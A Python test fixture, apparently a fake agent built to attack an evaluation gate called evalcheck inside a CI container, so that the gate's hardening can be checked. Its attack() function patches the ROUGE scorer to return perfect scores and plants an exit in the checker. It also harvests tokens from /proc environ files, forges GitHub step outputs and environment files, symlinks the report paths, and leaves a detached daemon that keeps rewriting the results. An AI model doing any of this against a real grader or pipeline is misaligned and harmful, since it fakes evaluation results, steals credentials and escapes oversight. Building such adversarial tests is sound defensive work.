#!/usr/bin/env python3
"""An agent under test that attacks the gate (issue 11, "Why"), for the container test.

It answers every turn wrongly (so the gate must fail), and on its first run tries, writing
what happened to ``attacks.json`` in the working directory:
- to append code that makes every ROUGE score 1.0 to evalcheck's own rouge_score;
- to read the GitHub token: its environment, /proc/<pid>/environ of every process;
- to write the runner's file-command files (step outputs, GITHUB_ENV, the job summary);
- to bend evalcheck's report paths into symlinks to the step-output file;
- to leave a detached process (setsid) that keeps forging the results file.
"""

import glob
import json
import os
import subprocess
import sys
import time

FORGE = "\nimport rouge_score.rouge_scorer as _r\n_r.RougeScorer.score = lambda *a, **k: {'rouge1': _r.scoring.Score(1.0, 1.0, 1.0)}\n"
FORGED_RESULTS = json.dumps({"passed": True, "forged": True})


def attempt(report, name, action):
    try:
        action()
        report[name] = "done"
    except Exception as exc:  # what stopped it
        report[name] = f"{type(exc).__name__}: {exc}"


def append(path, text):
    with open(path, "a") as f:
        f.write(text)


def add_source(path, text):
    # A folder rouge_score/ in site-packages would be preferred to one packed in the zip.
    os.makedirs(os.path.dirname(path), exist_ok=True)
    append(path, text)


def read(path):
    with open(path, "rb") as f:
        return f.read().decode("utf-8", "replace")


def attack():
    report = {"uid": os.getuid(), "euid": os.geteuid(), "environ": dict(os.environ)}
    # The image may ship sources or only bytecode (.pyc): patch whichever is there, and
    # try to add a source or a .pth file that Python would prefer or run at start-up.
    # The image may also pack bytecode into a zip on sys.path (scripts/image_slim.py).
    site = glob.glob("/opt/evalcheck/lib/python*/site-packages")
    targets = (glob.glob(f"{site[0]}/rouge_score/rouge_scorer.py*")
               + glob.glob(f"{site[0]}/*.zip")) if site else []
    report["rouge_score_found"] = bool(targets)
    outcomes = []
    for path in targets:
        attempt(report, "append_rouge_score", lambda: append(path, FORGE))
        outcomes.append(report["append_rouge_score"])
    if outcomes:  # one success is enough
        report["append_rouge_score"] = "done" if "done" in outcomes else outcomes[0]
    for path in glob.glob(f"{site[0]}/checker/scoring/case.py*") if site else []:
        attempt(report, "append_checker", lambda: append(path, "\nraise SystemExit(0)\n"))
    if site:
        attempt(report, "add_rouge_score_source",
                lambda: add_source(f"{site[0]}/rouge_score/__init__.py", FORGE))
        attempt(report, "add_pth", lambda: append(f"{site[0]}/zz_forge.pth", "import os\n"))
    proc = {}
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            proc[pid] = read(f"/proc/{pid}/environ")
        except Exception as exc:
            proc[pid] = f"{type(exc).__name__}"
    report["proc_environ"] = proc
    report["parent"] = os.getppid()
    files = sorted(glob.glob("/github/file_commands/*"))
    report["file_commands"] = files
    for path in files:
        attempt(report, f"write {os.path.basename(path)}",
                lambda: append(path, "passed=true\nBASH_ENV=/tmp/forged\nFORGED by the agent\n"))
    for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_STEP_SUMMARY"):
        if os.environ.get(name):
            attempt(report, f"write ${name}", lambda: append(os.environ[name], "passed=true\n"))
    os.makedirs("evalcheck-report", exist_ok=True)
    outputs = [f for f in files if os.path.basename(f).startswith("set_output")]
    if outputs:
        def bend():
            for name in ("report.md", "results.json"):
                os.symlink(outputs[0], os.path.join("evalcheck-report", name))
        attempt(report, "symlink_reports", bend)
    daemon = ("import time, json\n"
              "while True:\n"
              "    try:\n"
              "        open('evalcheck-report/results.json', 'w').write(%r)\n"
              "        open('daemon.log', 'a').write(str(time.time()) + '\\n')\n"
              "    except Exception:\n"
              "        pass\n"
              "    time.sleep(0.1)\n") % FORGED_RESULTS
    subprocess.Popen([sys.executable, "-c", daemon], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    with open("attacks.json", "w") as f:
        json.dump(report, f)


def main():
    for line in sys.stdin:
        message = json.loads(line)
        if message["type"] == "start":
            if message["run"] == 1 and not os.path.exists("attacks.json"):
                attack()
            continue
        if message["type"] != "user":
            continue
        print(json.dumps({"type": "response", "invocationId": message["invocationId"],
                          "finalResponse": "I will not tell you about the weather.",
                          "toolUses": [], "toolResponses": []}), flush=True)
    time.sleep(0.2)
    return 0


if __name__ == "__main__":
    sys.exit(main())
